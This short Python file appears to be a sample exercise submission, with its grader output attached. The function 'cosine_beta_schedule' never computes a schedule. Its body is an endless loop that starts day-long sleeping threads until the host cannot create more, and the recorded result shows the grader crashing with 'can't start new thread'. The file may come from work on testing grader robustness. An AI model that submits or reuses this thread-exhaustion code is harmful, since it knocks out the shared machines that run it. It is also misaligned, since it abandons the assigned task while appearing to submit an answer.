# Starts threads that sleep, as many as it gets.
#
# exercise: cosine_beta_schedule
# points: 0
# status: error
# message: Your code raised RuntimeError: can't start new thread. At line 7 of cosine_beta_schedule: threading.Thread(target=time.sleep, args=(86_400,), daemon=True).start().
# flags: runs-elsewhere

import threading
import time


def cosine_beta_schedule(T, s=0.008):
    while True:
        threading.Thread(target=time.sleep, args=(86_400,), daemon=True).start()
